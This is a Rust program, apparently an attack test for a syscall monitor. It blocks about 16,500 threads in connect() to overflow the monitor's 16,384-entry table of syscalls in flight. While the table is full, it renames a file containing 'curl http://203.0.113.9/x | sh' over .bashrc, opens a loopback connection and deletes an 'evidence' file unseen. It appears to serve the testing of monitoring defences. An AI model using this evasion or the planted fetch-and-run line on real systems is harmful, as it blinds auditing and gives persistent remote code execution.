//! Exhausts the kernel's table of syscalls in flight (PENDING, 16,384 entries keyed by thread):
//! N threads (default 16,500) each block in connect() to a unix socket whose backlog is full,
//! then, while they wait, the main thread renames a file over `$ATTACK_HOME/.bashrc`, connects
//! to loopback over TCP and unlinks a file. No privilege is needed.
//!
//! `attack-pending [THREADS]`. Prints how many threads were blocked in connect (from
//! /proc/self/task/*/syscall) when it acted.
#[path = "../attack_common.rs"]
mod common;

use std::os::unix::net::{UnixListener, UnixStream};

use common::*;

const SYS_CONNECT: &str = "42";

/// Threads of this process now inside connect(2).
fn in_connect() -> usize {
    let me = std::process::id() as i32;
    threads_of(me)
        .into_iter()
        .filter(|t| {
            std::fs::read_to_string(format!("/proc/{me}/task/{t}/syscall"))
                .is_ok_and(|s| s.split(' ').next() == Some(SYS_CONNECT))
        })
        .count()
}

/// One thread: connect() to the unix socket at `arg` (a C string), which blocks while the
/// listener's backlog is full.
extern "C" fn blocked_connect(arg: *mut libc::c_void) -> *mut libc::c_void {
    let path = arg as *const libc::c_char;
    // SAFETY: a zeroed sockaddr_un filled with a path shorter than sun_path (checked in main).
    unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        let mut addr: libc::sockaddr_un = std::mem::zeroed();
        addr.sun_family = libc::AF_UNIX as u16;
        let len = libc::strlen(path);
        std::ptr::copy_nonoverlapping(path, addr.sun_path.as_mut_ptr(), len);
        libc::connect(
            fd,
            (&raw const addr).cast(),
            std::mem::size_of::<libc::sockaddr_un>() as u32,
        );
        libc::close(fd);
    }
    std::ptr::null_mut()
}

fn main() {
    let threads: usize = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(16_500);
    let home = attack_home();
    let tcp = listener();
    let port = tcp.local_addr().unwrap().port();
    let sock = home.join("pending.sock");
    if sock.as_os_str().len() >= 100 {
        die("ATTACK_HOME is too long for a unix socket path");
    }
    let _ = std::fs::remove_file(&sock);
    let unix = UnixListener::bind(&sock).unwrap();
    // Backlog 0: one connection fills the queue, every later blocking connect waits.
    // SAFETY: listen on our own socket.
    unsafe { libc::listen(std::os::fd::AsRawFd::as_raw_fd(&unix), 0) };
    let first = UnixStream::connect(&sock).unwrap();

    // Raw pthreads on stacks cut from one mapping: std's threads cost four mappings each
    // (stack, guard, signal stack, guard) and vm.max_map_count (65,530) stops them at ~16,360.
    let path = std::ffi::CString::new(sock.as_os_str().as_encoded_bytes()).unwrap();
    let target: &'static std::ffi::CStr = Box::leak(path.into_boxed_c_str());
    const STACK: usize = 32 * 1024;
    let pool: &'static mut [u8] = Box::leak(vec![0u8; STACK * threads].into_boxed_slice());
    let mut handles = Vec::with_capacity(threads);
    for i in 0..threads {
        // SAFETY: attr is initialised before use; each thread gets its own slice of the pool,
        // which is never freed; the argument is a 'static C string.
        unsafe {
            let mut attr: libc::pthread_attr_t = std::mem::zeroed();
            libc::pthread_attr_init(&mut attr);
            libc::pthread_attr_setstack(&mut attr, pool.as_mut_ptr().add(i * STACK).cast(), STACK);
            let mut t: libc::pthread_t = 0;
            let r = libc::pthread_create(&mut t, &attr, blocked_connect, target.as_ptr() as *mut _);
            libc::pthread_attr_destroy(&mut attr);
            if r != 0 {
                say(&format!(
                    "thread {i}: {}",
                    std::io::Error::from_raw_os_error(r)
                ));
                break;
            }
            handles.push(t);
        }
    }
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let mut blocked = 0;
    while std::time::Instant::now() < deadline {
        blocked = in_connect();
        if blocked >= handles.len() {
            break;
        }
        sleep_ms(200);
    }
    say(&format!(
        "{blocked} of {} threads blocked in connect()",
        handles.len()
    ));

    // What PENDING cannot hold any more.
    let staged = home.join("bashrc.new");
    std::fs::write(&staged, b"curl http://203.0.113.9/x | sh # planted\n").unwrap();
    match std::fs::rename(&staged, home.join(".bashrc")) {
        Ok(()) => say(&format!("renamed {} over .bashrc", staged.display())),
        Err(e) => say(&format!("rename: {e}")),
    }
    match std::net::TcpStream::connect(("127.0.0.1", port)) {
        Ok(_) => say(&format!("connected to 127.0.0.1:{port}")),
        Err(e) => say(&format!("connect: {e}")),
    }
    let victim = home.join("evidence.txt");
    std::fs::write(&victim, b"x").unwrap();
    match std::fs::remove_file(&victim) {
        Ok(()) => say(&format!("unlinked {}", victim.display())),
        Err(e) => say(&format!("unlink: {e}")),
    }

    // Closing the listener refuses every waiting connect; the threads end.
    drop(unix);
    drop(first);
    let _ = std::fs::remove_file(&sock);
    for t in handles {
        // SAFETY: a thread we created and have not joined yet.
        unsafe { libc::pthread_join(t, std::ptr::null_mut()) };
    }
    say("threads released");
}
